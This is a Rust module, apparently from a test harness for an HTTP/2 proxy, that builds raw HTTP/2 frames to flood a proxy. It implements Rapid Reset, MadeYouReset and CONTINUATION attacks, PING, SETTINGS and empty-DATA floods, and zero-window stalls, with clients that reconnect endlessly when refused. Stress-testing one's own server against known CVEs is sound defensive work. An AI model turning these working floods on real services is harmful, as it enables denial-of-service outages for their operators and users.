//! Viewers that flood HTTP/2 connections with what is cheap to send: refused, they connect and go on.

use std::net::SocketAddr;
use std::sync::Arc;

use rustls::ClientConfig;
use rustls_pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio_rustls::TlsConnector;

use crate::certificate::{Certificate, HOST};
use crate::origin::{HUGE, SMALL};

/// What an HTTP/2 connection is flooded with.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Flood {
    /// Streams that are reset at once (Rapid Reset, CVE-2023-44487).
    Resets,
    /// Streams that the proxy is made to reset (MadeYouReset, CVE-2025-8671).
    MadeResets,
    /// A header block that never ends (CERT VU#421644).
    Continuation,
    /// PING frames.
    Pings,
    /// SETTINGS frames.
    Settings,
    /// DATA frames without data.
    EmptyData,
    /// As many large answers as may be, of which no byte is taken.
    ZeroWindow,
}

// Frame types and flags (RFC 9113 section 6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `SETTINGS_INITIAL_WINDOW_SIZE` of nothing.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// More than any stream's window may grow by.
const TOO_WIDE: [u8; 4] = [0x7f, 0xff, 0xff, 0xff];
/// How many streams a viewer opens at most where it waits for all of them.
const STREAMS: u32 = 100;
/// Frames that are written at once.
const BATCH: u32 = 50;

/// Has `count` viewers flood until the set is dropped.
pub(crate) fn start(
    proxy: SocketAddr,
    certificate: &Certificate,
    flood: Flood,
    count: usize,
) -> anyhow::Result<JoinSet<()>> {
    let client = certificate.client(b"h2")?;
    let mut viewers = JoinSet::new();
    for _ in 0..count {
        let client = Arc::clone(&client);
        viewers.spawn(async move {
            loop {
                // However it ends, the next connection does the same.
                let _refused = once(proxy, Arc::clone(&client), flood).await;
                tokio::task::yield_now().await;
            }
        });
    }
    Ok(viewers)
}

/// One connection, until the proxy closes it; what it says is read and thrown away.
async fn once(proxy: SocketAddr, client: Arc<ClientConfig>, flood: Flood) -> anyhow::Result<()> {
    let stream = TcpStream::connect(proxy).await?;
    let stream = TlsConnector::from(client).connect(ServerName::try_from(HOST)?, stream).await?;
    let (mut read, mut write) = tokio::io::split(stream);
    let hear = async {
        let mut thrown_away = [0; 16 * 1024];
        while read.read(&mut thrown_away).await? > 0 {}
        anyhow::Ok(())
    };
    let say = async {
        write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        write.write_all(&flood.greeting()).await?;
        for batch in 0.. {
            let frames: Vec<u8> =
                (batch * BATCH..(batch + 1) * BATCH).flat_map(|time| flood.frame(time)).collect();
            if frames.is_empty() {
                write.flush().await?;
                return std::future::pending().await;
            }
            write.write_all(&frames).await?;
            write.flush().await?;
        }
        Ok(())
    };
    tokio::select! {
        ended = hear => ended,
        ended = say => ended,
    }
}

impl Flood {
    fn greeting(self) -> Vec<u8> {
        match self {
            Self::ZeroWindow => frame(SETTINGS, 0, 0, &NO_WINDOW),
            Self::Continuation => {
                [frame(SETTINGS, 0, 0, &[]), frame(HEADERS, END_STREAM, 1, &block(SMALL))].concat()
            }
            Self::EmptyData => {
                [frame(SETTINGS, 0, 0, &[]), frame(HEADERS, END_HEADERS, 1, &block(SMALL))].concat()
            }
            _ => frame(SETTINGS, 0, 0, &[]),
        }
    }

    /// What is sent at the given time, counted from zero; nothing where that was all.
    fn frame(self, time: u32) -> Vec<u8> {
        let stream = 2 * time + 1;
        let request = |path| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block(path));
        match self {
            Self::Resets => [request(SMALL), frame(RST_STREAM, 0, stream, &CANCEL)].concat(),
            Self::MadeResets => [request(SMALL), frame(WINDOW_UPDATE, 0, stream, &TOO_WIDE)].concat(),
            // A literal without indexing, `x` with 100 bytes (RFC 7541 section 6.2.2).
            Self::Continuation => frame(CONTINUATION, 0, 1, &[&[0, 1, b'x', 100][..], &[b'y'; 100]].concat()),
            Self::Pings => frame(PING, 0, 0, &[0; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::ZeroWindow if time < STREAMS => request(HUGE),
            Self::ZeroWindow => Vec::new(),
        }
    }
}

/// One frame (RFC 9113 section 4.1); payloads here are short.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u16::try_from(payload.len()).expect("it is short").to_be_bytes();
    let mut bytes = vec![0, length[0], length[1], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The header block of a GET: what is in the static table is indexed, the rest are literals (RFC 7541).
fn block(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(0x04, path), (0x01, HOST)] {
        block.extend([name, u8::try_from(value.len()).expect("it is short")]);
        block.extend(value.as_bytes());
    }
    block
}
